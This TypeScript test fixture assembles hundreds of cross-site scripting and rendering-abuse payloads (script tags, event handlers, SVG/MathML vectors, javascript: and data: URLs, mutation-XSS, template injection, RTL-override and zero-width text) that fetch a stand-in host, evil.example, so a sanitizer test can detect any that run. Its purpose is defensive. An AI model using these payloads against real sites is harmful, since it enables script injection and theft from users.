/**
 * Hostile texts, one form each. Whatever would run sets `window.__ran`, opens a dialog or asks a foreign host, so a
 * listener for those three and for policy violations sees any that does.
 */
const RUN = "window.__ran=1;alert(1);fetch('https://evil.example/')";
const ASK = 'https://evil.example/x';

const cross = <A, B>(left: readonly A[], right: readonly B[], join: (a: A, b: B) => string): string[] =>
  left.flatMap((a) => right.map((b) => join(a, b)));

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${ASK}></script>`,
  `<script type=module>import '${ASK}'</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<script>\u2028${RUN}</script>`,
  `<noscript><script>${RUN}</script></noscript>`,
];

const HANDLERS = cross(
  [
    'img src=x',
    'body',
    'details open',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'a href=x',
    'div',
    'marquee',
    'iframe',
  ],
  ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerover', 'onanimationstart'],
  (tag, handler) => `<${tag} ${handler}="${RUN}">`,
);

const SVG = [
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to="${RUN}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><image href="${ASK}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg><style>@import '${ASK}'</style></svg>`,
  `<svg><desc><img src=x onerror="${RUN}"></desc></svg>`,
];

const MATHML = [
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math><mglyph><style></math><img src=x onerror="${RUN}">`,
];

const FRAMES = [
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="${ASK}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${ASK}"></object>`,
  `<embed src="${ASK}">`,
  `<portal src="${ASK}">`,
  `<frameset onload="${RUN}">`,
  `<base href="${ASK}/">`,
  `<meta http-equiv=refresh content="0;url=${ASK}">`,
  `<link rel=stylesheet href="${ASK}">`,
  `<link rel=prefetch href="${ASK}">`,
  `<style>@import url(${ASK});</style>`,
  `<style>*{background:url(${ASK})}</style>`,
  `<div style="background:url(${ASK})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>`,
  `<img src=${ASK}>`,
  `<img srcset="${ASK} 2x">`,
  `<video poster=${ASK} autoplay><source src=${ASK}></video>`,
  `<form action=${ASK}><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<dialog open><form action="javascript:${RUN}"></dialog>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
];

const URLS = cross(
  [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `java\nscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `&#106;avascript:${RUN}`,
    `javascript://x.test/%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `vbscript:msgbox(1)`,
    `file:///etc/passwd`,
    `blob:${ASK}`,
    `//evil.example/x`,
    `https://user:pass@evil.example/`,
  ],
  [
    (url: string) => `[click](${url})`,
    (url: string) => `[click](<${url}>)`,
    (url: string) => `![image](${url})`,
    (url: string) => `<${url}>`,
    (url: string) => `[click][r]\n\n[r]: ${url}`,
  ],
  (url, form) => form(url),
);

const MUTATION = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="<!--</a><img src=x onerror=${RUN}>-->">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!doctype x [<!entity y "${RUN}">]>&y;`,
  `\`<img src=x onerror=${RUN}>\``,
  `| a |\n| --- |\n| <img src=x onerror=${RUN}> |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `> <img src=x onerror=${RUN}>`,
  `# <img src=x onerror=${RUN}>`,
  `**<img src=x onerror=${RUN}>**`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `__proto__[x]=1`,
];

const LAYOUT = [
  '\u202eevil.exe\u202c',
  '\u2066\u2067\u2068\u202a\u202b\u202d\u202e never closed',
  `a${'\u0301'.repeat(200)}`,
  '\u200b\u200c\u200d\ufeff\u2060',
  'W'.repeat(300),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(40),
  'مرحبا'.repeat(40),
  'שלום עולם ABC 123 '.repeat(10),
  '\ufdfd'.repeat(20),
  '\ud800 a lone surrogate',
  'line\r\n\u2028\u2029\u0085break',
  '\u0007\u001b[31mcontrol\u009b',
  '𒐫'.repeat(30),
  `${'> '.repeat(300)}deep`,
  `${'- '.repeat(300)}deep`,
  `${'['.repeat(500)}`,
  `${'*a_'.repeat(200)}`,
  `|${'a|'.repeat(60)}\n|${'-|'.repeat(60)}`,
  '# '.repeat(100),
  '\t\t\t\ttabs',
];

/** Single clusters of characters: no line can break inside one. */
export const CLUSTERS: readonly string[] = [
  `a${'\u0301'.repeat(1900)}`,
  `a${'\u20dd'.repeat(45)}`,
  '\u{1f6a2}\u200d'.repeat(600),
  '\u1100'.repeat(600),
  '\u0915\u094d'.repeat(600),
];

/** Every form once. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...SVG,
  ...MATHML,
  ...FRAMES,
  ...URLS,
  ...MUTATION,
  ...LAYOUT,
];
